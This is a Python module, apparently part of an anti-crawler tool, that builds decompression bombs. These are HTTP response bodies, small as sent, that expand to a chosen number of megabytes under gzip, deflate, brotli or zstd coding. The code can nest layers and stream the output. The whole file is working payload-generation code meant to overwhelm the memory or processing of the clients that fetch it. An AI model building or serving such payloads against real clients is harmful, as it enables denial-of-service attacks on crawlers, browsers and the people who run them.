"""Bodies that are small as they are sent and vast unpacked, in every coding that crawlers accept."""

import struct
import zlib
from collections.abc import Callable, Iterator
from functools import lru_cache

import brotli
from backports import zstd

_MEGABYTE = 1 << 20
_BLOCK = b"<p>bom</p>".ljust(64, b" ") * (_MEGABYTE // 64)
CODINGS = ("gzip", "deflate", "br", "zstd")
"""As Content-Encoding names them (IANA, HTTP Content Coding Registry)."""


@lru_cache(maxsize=8)
def bomb(megabytes: int, coding: str = "gzip", layers: int = 1) -> bytes:
    """What unpacks to `megabytes` MB when `coding` is undone `layers` times."""
    data = _MAKERS[coding](megabytes)
    for _ in range(layers - 1):
        data = _packed(coding, data)
    return data


def _gzip(megabytes: int) -> bytes:
    """A single member."""
    check = 0
    for _ in range(megabytes):
        check = zlib.crc32(_BLOCK, check)
    size = megabytes * _MEGABYTE & 0xFFFFFFFF
    head = b"\x1f\x8b\x08\x00" + bytes(4) + b"\x02\xff"
    return head + _deflated() * megabytes + b"\x03\x00" + struct.pack("<II", check, size)


def _zlib(megabytes: int) -> bytes:
    check = 1
    for _ in range(megabytes):
        check = zlib.adler32(_BLOCK, check)
    return b"\x78\xda" + _deflated() * megabytes + b"\x03\x00" + struct.pack(">I", check)


def _deflated() -> bytes:
    """One fully flushed block of 1 MB, which may be repeated."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(_BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)


def _brotli(megabytes: int) -> bytes:
    packer = brotli.Compressor(quality=5)
    return b"".join([*(packer.process(_BLOCK) for _ in range(megabytes)), packer.finish()])


def _zstd(megabytes: int) -> bytes:
    packer = zstd.ZstdCompressor()
    return b"".join([*(packer.compress(_BLOCK) for _ in range(megabytes)), packer.flush()])


def _packed(coding: str, data: bytes) -> bytes:
    packers: dict[str, Callable[[bytes], bytes]] = {
        "gzip": lambda plain: zlib.compress(plain, 9, wbits=zlib.MAX_WBITS | 16),
        "deflate": lambda plain: zlib.compress(plain, 9),
        "br": brotli.compress,
        "zstd": zstd.compress,
    }
    return packers[coding](data)


def packed_stream(pieces: Iterator[bytes]) -> Iterator[bytes]:
    """A gzip stream of `pieces`, never an empty piece: in chunked framing that would be the end."""
    packer = zlib.compressobj(1, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    for piece in pieces:
        if ready := packer.compress(piece):
            yield ready
    yield packer.flush()


_MAKERS: dict[str, Callable[[int], bytes]] = {"gzip": _gzip, "deflate": _zlib, "br": _brotli, "zstd": _zstd}
